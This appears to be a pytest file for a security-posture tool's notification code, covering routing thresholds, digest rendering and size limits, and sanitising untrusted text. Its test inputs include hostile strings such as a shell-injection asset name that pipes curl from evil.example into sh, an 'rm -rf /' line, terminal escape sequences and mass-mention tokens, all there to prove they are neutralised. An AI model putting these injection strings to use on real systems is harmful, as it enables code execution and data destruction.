"""Routing and rendering, pure: what a hostile string becomes, how a digest is cut, who gets what."""

from __future__ import annotations

import pytest

from posture.notify.policy import (
    Item,
    Limit,
    Route,
    Subject,
    Thresholds,
    asset_text,
    channels_for,
    finding_detail,
    meets_bar,
    message_limit,
    neutralise,
    queue_line,
    render_digest,
)
from posture.taxonomy import Severity


@pytest.mark.parametrize(("raw", "forbidden"), [
    ("<!channel> please", ["<!channel>"]),
    ("<!here|here> <@U024BE7LH> <#C024BE7LH>", ["<!", "<@", "<#"]),
    ("@everyone @here @channel", ["@everyone", "@here", "@channel"]),
    ("[click](http://evil.example/x)", ["[click]", "](", "http://", "evil.example"]),
    ("<https://evil.example|Open>", ["https://", "<", "|Open"]),
    ("see www.evil.com now", ["www.evil.com"]),
    ("`rm -rf /` \x1b]52;c;ZXZpbA==\x07 \u202eexe.txt", ["`", "\x1b", "\u202e"]),
    ("ftp://files.example/a javascript://x", ["ftp://", "javascript://"]),
])
def test_neutralise_breaks_mentions_links_and_markup(raw: str, forbidden: list[str]) -> None:
    out = neutralise(raw)
    for token in forbidden:
        assert token not in out
    assert "\n" not in out


def test_neutralise_keeps_text_readable_and_is_idempotent() -> None:
    assert neutralise("http://evil.com/path") == "hxxp://evil[.]com/path"
    assert neutralise("payments") == "payments"
    assert neutralise("openssl 3.0.2 in nginx:1.25.3") == "openssl 3.0.2 in nginx:1.25.3"
    once = neutralise("<!channel> @everyone [click](http://evil)")
    assert neutralise(once) == once
    assert len(neutralise("x" * 500)) == 200


def test_neutralise_redacts_before_anything_else() -> None:
    assert neutralise("key AKIA1234", redact=lambda t: t.replace("AKIA1234", "<secret AK…>")) == "key ‹secret AK…›"


def _finding(n: int, risk: int, event: str = "new") -> Item:
    return Item(event, {"rule_id": f"R{n}", "title": f"title {n}", "asset": f"ns/Deployment/a{n}",
                        "severity": "high", "risk": risk, "groups": {"team": ["t"]}})


def test_digest_groups_events_sorts_by_risk_and_cuts_with_more() -> None:
    items = [_finding(n, 50 + n) for n in range(12)] + [_finding(99, 70, "resolved")]
    items.append(Item("regressed", {"rule_id": "V", "title": "CVE", "asset": "img", "severity": "critical",
                                    "previous_severity": "high", "risk": 90, "previous_risk": 70}))
    message = render_digest(items, top=3, run_id=7, scope="kubernetes:prod")
    body = message.body
    assert message.title == "Posture: 12 new risks, 1 regression, 1 resolved on cluster prod"
    assert body.index("New risks (12)") < body.index("Regressed (1)") < body.index("Resolved (1)")
    assert "title 11 (R11)\n  on ns/Deployment/a11; owner: team t" in body and "(R0)" not in body
    assert "and 9 more" in body
    assert "[high→critical, risk 70→90] CVE (V)\n  on img; owner: no team label" in body
    assert body.endswith("Open it in the terminal: posture tui --view diff  (or: posture diff --to 7)")


def test_a_resolution_says_what_the_resolving_run_judged() -> None:
    resolved = Item("resolved", {**_finding(1, 40).payload, "coverage": "severities critical,high"})
    body = render_digest([resolved], run_id=9, scope="report:trivy.json").body
    assert "Resolved (1) by run 9, which judged: severities critical,high" in body
    assert "Resolved (1)\n" in render_digest([_finding(1, 40, "resolved")], run_id=9).body


def test_routing_by_threshold_severity_and_scope() -> None:
    routes = [Route("all"), Route("crit", min_severity=Severity.CRITICAL),
              Route("pay", scope={"team": ("pay*",), "namespace": ("prod",)}),
              Route("res", events=frozenset({"resolved"}), min_risk=0)]
    thresholds = Thresholds(new_risk=60)
    shop = {"team": ["payments"], "namespace": ["eu-1/prod"]}
    assert channels_for(routes, Subject("new", "high", 65, shop), thresholds) == {"all", "pay"}
    # Default routes (no bar of their own) take high or worse *or* risk 60: a critical at risk 30 too.
    assert channels_for(routes, Subject("new", "critical", 30, shop), thresholds) == {"all", "crit", "pay"}
    assert channels_for(routes, Subject("new", "medium", 30, shop), thresholds) == set()
    assert channels_for(routes, Subject("new", "high", 65, {"team": ["search"]}), thresholds) == {"all"}
    assert channels_for(routes, Subject("resolved", "high", 90, shop), thresholds) == {"res"}
    assert channels_for(routes, Subject("collector", groups={"cluster": ["eu-1"]}), thresholds) == {"all", "crit"}


@pytest.mark.parametrize(("route", "severity", "risk", "announced"), [
    (Route("d"), "high", 30, True),  # the default severity bar: a high at risk 30 (the miner scored 47)
    (Route("d"), "critical", 0, True),
    (Route("d"), "medium", 59, False),  # below both default bars
    (Route("d"), "medium", 60, True),  # the default risk bar
    (Route("d"), "low", 100, True),
    (Route("s", min_severity=Severity.CRITICAL), "high", 100, False),  # one bar set: that bar alone
    (Route("s", min_severity=Severity.CRITICAL), "critical", 1, True),
    (Route("r", min_risk=70), "critical", 69, False),
    (Route("r", min_risk=70), "low", 70, True),
    (Route("b", min_severity=Severity.CRITICAL, min_risk=70), "high", 70, True),  # both set: either one
    (Route("b", min_severity=Severity.CRITICAL, min_risk=70), "high", 69, False),
    (Route("b", min_severity=Severity.CRITICAL, min_risk=70), "critical", 10, True),
])
def test_a_finding_is_announced_when_it_reaches_either_bar(route: Route, severity: str, risk: int,
                                                         announced: bool) -> None:
    assert meets_bar(route, severity, risk, Thresholds()) is announced


def test_the_default_severity_bar_is_configurable() -> None:
    assert not meets_bar(Route("d"), "high", 30, Thresholds(new_severity=Severity.CRITICAL))
    assert meets_bar(Route("d"), "critical", 30, Thresholds(new_severity=Severity.CRITICAL))


@pytest.mark.parametrize(("discriminator", "evidence", "detail"), [
    ("hostPID", {"field": "spec.hostPID", "value": True}, "hostPID = true"),
    ("hostNetwork", {"field": "spec.hostNetwork", "value": True}, "hostNetwork = true"),
    ("miner", {"field": "spec.containers[miner].securityContext.privileged", "value": True},
     "container miner: securityContext.privileged = true"),
    ("app", {"field": "spec.initContainers[app].securityContext.capabilities.add", "value": ["SYS_ADMIN"]},
     "container app: securityContext.capabilities.add = SYS_ADMIN"),
    ("", {"cap_add": ["NET_ADMIN", "SYS_PTRACE"], "dangerous": True}, "capabilities added: NET_ADMIN, SYS_PTRACE"),
    ("CVE-2023-1", {"vulnerability": "CVE-2023-1", "package": "openssl", "installed": "3.0.2", "fixed": "3.0.7"},
     "CVE-2023-1 in openssl 3.0.2, fixed in 3.0.7"),
    ("CVE-2023-2", {"vulnerability": "CVE-2023-2", "package": "zlib"}, "CVE-2023-2 in zlib, no fixed version yet"),
    ("web", {"missing": "resources.limits.cpu"}, "web"),
])
def test_the_detail_that_tells_findings_apart_comes_from_the_evidence(discriminator: str, evidence: dict[str, object],
                                                                       detail: str) -> None:
    assert finding_detail(discriminator, evidence) == detail


@pytest.mark.parametrize(("payload", "text"), [
    ({"asset": "mining/DaemonSet/miner", "asset_kind": "k8s-workload",
      "groups": {"cluster": ["prod-eu"], "namespace": ["prod-eu/mining"]}},
     "cluster prod-eu / namespace mining / DaemonSet/miner"),
    ({"asset": "Namespace/mining", "asset_kind": "k8s-namespace", "groups": {"cluster": ["prod-eu"]}},
     "cluster prod-eu / Namespace/mining"),
    ({"asset": "web-1", "asset_kind": "container", "groups": {"host": ["docker-7"]}},
     "host docker-7 / container web-1"),
    ({"asset": "shop/api:1.2", "asset_kind": "tag", "groups": {"registry": ["reg.example:5000"]}},
     "registry reg.example:5000 / tag shop/api:1.2"),
    ({"asset": "nginx:1.25", "asset_kind": "image", "groups": {}}, "image nginx:1.25"),
])
def test_assets_are_named_as_people_know_them(payload: dict[str, object], text: str) -> None:
    assert asset_text(payload) == text


def _miner(rule: str, detail: str, team: str = "payments", n: int = 0) -> Item:
    return Item("new", {"rule_id": rule, "title": "Pod shares a host namespace", "severity": "high", "risk": 47 - n,
                        "asset": f"mining/DaemonSet/miner{n or ''}", "asset_kind": "k8s-workload", "detail": detail,
                        "remediation": "Remove hostNetwork, hostPID and hostIPC (or set them to false). Then redeploy.",
                        "groups": {"team": [team], "cluster": ["prod-eu"], "namespace": ["prod-eu/mining"]}})


def test_a_line_says_what_where_whose_the_first_step_and_the_command() -> None:
    body = render_digest([_miner("K8S-PSS-HOST-NAMESPACES", "hostPID = true"),
                          _miner("K8S-PSS-HOST-NAMESPACES", "hostNetwork = true")], run_id=3,
                         scope="manifests:/home/me/deploy @ prod-eu").body
    assert "Pod shares a host namespace: hostPID = true" in body
    assert "Pod shares a host namespace: hostNetwork = true" in body
    assert "on cluster prod-eu / namespace mining / DaemonSet/miner; owner: team payments" in body
    assert "fix: Remove hostNetwork, hostPID and hostIPC (or set them to false).\n" in body  # the first step only
    assert "open: posture findings --rule K8S-PSS-HOST-NAMESPACES --search mining/DaemonSet/miner" in body
    assert body.startswith("2 new risks on cluster prod-eu (manifests) (run 3)") and "/home/me" not in body


def test_an_untrusted_asset_name_is_inert_in_the_command_line() -> None:
    item = _miner("R", "x")
    hostile = Item("new", {**item.payload, "asset": "ns/Pod/$(curl evil.example|sh)`id`"})
    body = render_digest([hostile]).body
    line = next(x for x in body.splitlines() if x.startswith("  open:"))
    # Neutralised, then single-quoted as one word: pasted into a shell, nothing in it runs.
    assert line.endswith("""--search 'ns/Pod/$(curl evil[.]example¦sh)'"'"'id'"'"''""")
    assert "evil.example" not in body and "`" not in body and "|" not in body


def test_a_digest_is_grouped_by_team() -> None:
    items = [_miner("R", f"d{n}", team="search" if n % 2 else "payments", n=n) for n in range(4)]
    body = render_digest(items).body
    assert body.index("Team payments (2)") < body.index("Team search (2)")
    payments = body[body.index("Team payments"):body.index("Team search")]
    assert "miner2" in payments and "miner1" not in payments


def _many(n: int) -> list[Item]:
    return [_miner("K8S-PSS-HOST-NAMESPACES", f"hostPID = true #{i}", n=i % 40) for i in range(n)]


def test_a_digest_that_fits_is_whole_and_one_more_finding_is_cut_with_and_n_more() -> None:
    whole = render_digest(_many(6), top=100)
    size = len(whole.body)
    assert render_digest(_many(6), top=100, limit=Limit(size + 60)).body == whole.body  # room for "and N more"
    cut = render_digest(_many(6), top=100, limit=Limit(size + 59))
    assert len(cut.body) <= size + 59 and "and 1 more" in cut.body and cut.body.count("  open:") == 5


@pytest.mark.parametrize(("url", "total"), [
    ("discord://1234/abcd", 2000), ("slack://T0/B0/XX", 3000), ("workflows://host:443/a/b/c", 28000),
])
def test_no_digest_exceeds_the_service_limit(url: str, total: int) -> None:
    limit = message_limit(url)
    assert limit is not None
    message = render_digest(_many(500), top=100, run_id=9, scope="kubernetes:prod-eu", limit=limit)
    size = len((message.title + message.body).encode()) if limit.utf8 else len(message.title + message.body)
    assert size <= total and "more" in message.body and message.body.count("  open:") >= 1
    assert message.body.endswith("posture diff --to 9)")


def test_mail_is_not_cut_and_unknown_services_take_what_apprise_declares() -> None:
    assert message_limit("mailto://u:p@example.com") is None
    assert message_limit("tgram://bot/chat", 4096) == Limit(4096)
    assert "and" not in render_digest(_many(40), top=100, limit=None).body.split("Team")[0]


def test_the_line_per_channel_says_what_was_queued_or_why_not() -> None:
    assert queue_line("ops", "cluster prod-eu", {"new": 2}, 2, "") == (
        "notify ops: 1 message queued for cluster prod-eu (2 new risks; 2 findings)")
    assert queue_line("ops", "cluster prod-eu", {}, 0, "no change it listens for") == (
        "notify ops: nothing queued for cluster prod-eu: no change it listens for")
